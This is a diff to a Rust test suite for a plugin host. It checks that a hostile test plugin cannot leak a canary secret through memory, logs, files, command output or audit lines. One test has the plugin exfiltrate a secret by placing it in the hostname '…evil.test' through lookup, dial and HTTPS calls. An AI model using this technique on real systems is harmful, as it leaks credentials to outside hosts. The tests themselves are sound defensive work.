@@ -8,6 +8,7 @@
 mod secrets_support;
 
 use std::os::unix::fs::PermissionsExt as _;
+use std::path::Path;
 use std::time::{Duration, Instant};
 
 use base64::Engine as _;
@@ -17,6 +18,9 @@ use serde_json::{Value, json};
 
 use secrets_support::{CANARY, Server, needles, no_canary, turned, verify_aws};
 
+/// A secret that a host could be called.
+const PLAIN: &str = "plain-canary-of-tests";
+
 /// A home with the attacker, a TLS server it may reach (`GET` and `POST`), and what `secrets` says; `{port}` in it
 /// is the server's.
 fn home(name: &str, server: &Server, secrets: &str) -> (Home, Client) {
@@ -25,8 +29,15 @@ fn home(name: &str, server: &Server, secrets: &str) -> (Home, Client) {
 }
 
 fn home_with(name: &str, server: &Server, clear: &Server, secrets: &str) -> (Home, Client) {
-    let home =
-        Home::new(name).env("CANARY", CANARY).env("SSL_CERT_FILE", server.certificate().to_str().unwrap());
+    let (home, client) =
+        home_that_says("info,aws_sigv4=trace,hyper=trace,rustls=trace", name, server, clear, secrets);
+    client.call("hello__hello", &json!({ "name": "first" }));
+    (home, client)
+}
+
+fn home_that_says(log: &str, name: &str, server: &Server, clear: &Server, secrets: &str) -> (Home, Client) {
+    let home = Home::new(name).env("CANARY", CANARY).env("PLAIN", PLAIN);
+    let home = home.env("SSL_CERT_FILE", server.certificate().to_str().unwrap());
     let (port, clear) = (server.port, clear.port);
     let config = format!(
         r#"
@@ -47,9 +58,8 @@ url = "http://127.0.0.1:{clear}"
     );
     let secrets = secrets.replace("{port}", &port.to_string()).replace("{clear}", &clear.to_string());
     home.plugin("hello").hostile_as("attacker", "attacker").config(&(config + &secrets)).approve();
-    let client = home.serve_with(&["--log", "info,aws_sigv4=trace,hyper=trace,rustls=trace"]);
+    let client = home.serve_with(&["--log", log]);
     client.initialize();
-    client.call("hello__hello", &json!({ "name": "first" }));
     (home, client)
 }
 
@@ -169,6 +179,101 @@ fn a_value_never_comes_back() {
     no_canary("/stored", &came);
     assert!(came.contains("innocent text") && came.contains("****"), "{came}");
     nothing_is_left(&home, &client);
+}
+
+/// What must not hold the canary in any spelling, all files below a folder.
+fn files_hold_nothing(folder: &Path) -> usize {
+    let mut searched = 0;
+    for entry in std::fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            searched += files_hold_nothing(&path);
+        } else if path.is_file() {
+            let bytes = std::fs::read(&path).unwrap();
+            no_canary(&path.display().to_string(), &String::from_utf8_lossy(&bytes));
+            searched += 1;
+        }
+    }
+    searched
+}
+
+/// The whole of it: secrets that were used, refused and missed, while the host logs all it can. Nothing is in what the
+/// client got, in the log, in any file of the home, in what any verb says, or in the memory of the plugin, of this call
+/// and of the next.
+#[test]
+fn the_canary_is_nowhere() {
+    let (server, clear) = (Server::tls(), Server::clear());
+    let secrets = format!("{BEARER}{}", HEADER.replace("\"token\"", "\"other\"").replace("/v1", "/h"));
+    let (home, client) = home_that_says("trace", "nowhere", &server, &clear, &secrets);
+    let key = json!([["x-api-key", "{{secret:other}}"]]);
+    let requests = [
+        get(&server, "/v1/echo"),
+        get(&server, "/v1/spelled"),
+        with(get(&server, "/h/echo"), "headers", key.clone()),
+        // Refused: for others, misplaced, not to be looked into.
+        with(get(&server, "/v1/echo"), "headers", key.clone()),
+        get(&server, "/v1/x?{{secret:token}}"),
+        get(&server, "/v1/gzip"),
+        // Fails.
+        ask("GET", "https", &clear.authority(), "/v1/echo"),
+    ];
+    let found = hunt_for(&client, &requests, &needles());
+    let said: Vec<_> = found["said"].as_array().unwrap().iter().map(|said| said.as_str().unwrap()).collect();
+    assert_eq!(said[..3], ["200", "200", "200"], "{found:.2000}");
+    assert!(said[3..].iter().all(|said| said.starts_with("ErrorCode::")), "{said:?}");
+    assert!(server.seen().iter().filter(|seen| format!("{seen:?}").contains("canary")).count() >= 3);
+    let counts = |found: &Value| -> Vec<u64> {
+        assert!(found["searched"].as_u64().unwrap() > 1 << 16);
+        found["found"].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).collect()
+    };
+    let (this, next) = (counts(&found), counts(&hunt_for(&client, &[], &needles())));
+    let (control, hits) = this.split_last().unwrap();
+    assert!(*control > 0 && hits.iter().all(|hits| *hits == 0), "in this call's memory: {this:?}");
+    assert!(next.iter().all(|hits| *hits == 0), "in the next call's memory: {next:?}");
+    for method in ["tools/list", "prompts/list", "resources/list", "resources/templates/list"] {
+        no_canary(method, &format!("{:?}", client.request(method, Value::Null)));
+    }
+    let refused =
+        client.request("tools/call", Client::call_params("attacker__hunt", &json!({ "needles": 3 })));
+    no_canary("an error", &format!("{refused:?}"));
+    nothing_is_left(&home, &client);
+    let log = client.stderr();
+    assert!(log.contains("TRACE") && log.contains("DEBUG"), "it did not say all: {log:.2000}");
+    for verb in [
+        &["--log", "trace", "grants"][..],
+        &["list"],
+        &["check"],
+        &["inspect", "attacker"],
+        &["plan"],
+        &["approve"],
+        &["explain", "attacker", "secret", "token", "GET", &format!("https://{}/v1", server.authority())],
+        &["audit", "show", "--format", "json"],
+        &["--log", "trace", "call", "attacker", "tell", "{\"variable\": \"CANARY\", \"way\": \"result\"}"],
+        &["revoke", "attacker", "--secret", "token"],
+    ] {
+        no_canary(&verb.join(" "), &home.kennel(verb).to_string());
+    }
+    assert!(files_hold_nothing(&home.path()) > 5);
+}
+
+/// A plugin that has a value could call a host so, and what was denied is written down.
+#[test]
+fn a_value_in_the_name_of_a_host_is_not_in_the_audit() {
+    let server = Server::tls();
+    let secrets =
+        "\n[[plugins.attacker.secrets]]\nname = \"PASSWORD\"\nfrom = \"env:PLAIN\"\nexpose = true\n";
+    let (home, client) = home("host-name", &server, secrets);
+    let host = format!("{PLAIN}.evil.test");
+    client.call("attacker__lookup", &json!({ "name": host }));
+    client.call("attacker__dial", &json!({ "to": format!("{host}:1") }));
+    hunt(&client, &[ask("GET", "https", &host, "/")]);
+    nothing_is_left(&home, &client);
+    let lines = home.audit();
+    let denied: Vec<_> =
+        lines.iter().filter(|line| line["denied"].is_array()).map(Value::to_string).collect();
+    assert!(!client.stderr().contains(PLAIN), "{}", client.stderr());
+    let with_name = denied.iter().filter(|line| line.contains("[secret PASSWORD].evil.test")).count();
+    assert!(with_name == 3 && !denied.concat().contains(PLAIN), "{denied:#?}");
 }
 
 /// Answers in which nothing could be found are not given, and pieces are not asked for.
